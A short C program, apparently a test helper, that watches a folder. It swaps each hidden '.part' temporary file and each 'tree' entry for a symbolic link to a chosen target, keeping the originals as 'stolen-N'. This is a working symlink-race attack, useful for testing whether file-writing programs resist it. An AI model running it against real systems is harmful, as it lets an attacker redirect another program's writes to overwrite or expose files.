/* Watches a folder, and puts a link to TARGET in the place of each temporary
 * name that comes there, and of each folder named "tree": swap FOLDER TARGET.
 * Runs until it is killed. */
#include <dirent.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static bool is_prey(const char *name)
{
	size_t len = strlen(name);

	return (name[0] == '.' && len > 6 &&
		       strcmp(name + len - 5, ".part") == 0) ||
		strcmp(name, "tree") == 0;
}

int main(int argc, char **argv)
{
	unsigned long count = 0;

	if (argc != 3 || chdir(argv[1])) {
		fputs("swap FOLDER TARGET\n", stderr);
		return 2;
	}
	puts("ready");
	fflush(stdout);
	for (;;) {
		DIR *dir = opendir(".");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			char away[64];

			if (!is_prey(entry->d_name))
				continue;
			snprintf(away, sizeof(away), "stolen-%lu", count);
			if (rename(entry->d_name, away) == 0 &&
				symlink(argv[2], entry->d_name) == 0)
				count++;
		}
		if (dir)
			closedir(dir);
	}
}
